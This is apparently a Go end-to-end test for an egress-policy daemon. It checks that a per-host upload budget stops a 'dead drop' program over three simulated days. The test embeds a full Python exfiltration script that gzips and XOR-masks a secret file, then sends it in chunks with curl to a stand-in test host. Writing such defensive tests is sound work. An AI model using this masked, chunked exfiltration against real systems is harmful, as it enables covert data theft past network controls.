package policy

import (
	"bytes"
	"crypto/rand"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/policy"
)

// deadDrop is the program of the intrusion of July 2026, with invented names: it packs what it has found with gzip, masks it by XOR, and sends it in
// chunks to a host for data sets that the policy allows. It says how many chunks went.
const deadDrop = `import gzip, hashlib, os, subprocess, sys
secret = open("secret", "rb").read()
mask = hashlib.sha256(b"July").digest()
packed = gzip.compress(secret)
masked = bytes(b ^ mask[i % 32] for i, b in enumerate(packed))
went, at = 0, int(open("at").read()) if os.path.exists("at") else 0
for at in range(at, len(masked), 24000):
    open("chunk", "wb").write(masked[at:at + 24000])
    out = subprocess.run(["curl", "-sS", "--data-binary", "@chunk", "http://data.allowed.test/count"], capture_output=True, text=True).stdout
    if "origin received" not in out:
        print(out, end="")
        break
    went += 1
open("at", "w").write(str(at))
print("went", went)
`

// TestADeadDropIsStoppedByABudget runs the program for three days of a daemon each: over all of them no more leaves than the budget says, and
// what fetches, pushes and asks a model beside it is not disturbed.
func TestADeadDropIsStoppedByABudget(t *testing.T) {
	d := world.NewDaemon(t, `version: 1
allow: ["*.allowed.test"]
budgets:
  - {hosts: [data.allowed.test], up: 200kB, per: 72h}
`)
	dir := t.TempDir()
	secret := make([]byte, 400_000) // which gzip does not make smaller than 400 kB
	if _, err := rand.Read(secret); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string][]byte{"secret": secret, "drop.py": []byte(deadDrop), "model": bytes.Repeat([]byte("prompt "), 30_000)} {
		if err := os.WriteFile(filepath.Join(dir, name), text, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var arrived atomic.Int64
	d.World.Origin.Sites.Store("data.allowed.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		arrived.Add(n)
		fmt.Fprintf(w, "origin received %d bytes", n)
	}))
	t.Cleanup(func() { d.World.Origin.Sites.Delete("data.allowed.test") })
	refused := 0
	for day := range 3 {
		d.Run(t, exec.Command(world.Egressd.Path(), "serve", "--config", d.Config))
		out, err := d.Shell(dir, "", "python3 drop.py")
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		if strings.Contains(out, string(policy.ByteBudget)) {
			refused++
		}
		for _, host := range []string{"model", "git"} { // which send more than the budget of the other
			if out, err := d.Shell(dir, "", "curl -sS --data-binary @model http://"+host+".allowed.test/count"); err != nil || !strings.Contains(out, "origin received 210000 bytes") {
				t.Errorf("day %d, %s: %v %q", day, host, err, out)
			}
		}
		if out, err := d.Shell(dir, "", "curl -sS http://pkg.allowed.test/"); err != nil || out == "" {
			t.Errorf("day %d: %v %q", day, err, out)
		}
		d.Stop(t)
	}
	if n := arrived.Load(); n == 0 || n > 200_000 {
		t.Errorf("%d bytes went by a budget of 200 kB", n)
	}
	if refused != 3 {
		t.Errorf("the program was refused on %d of 3 days", refused)
	}
}
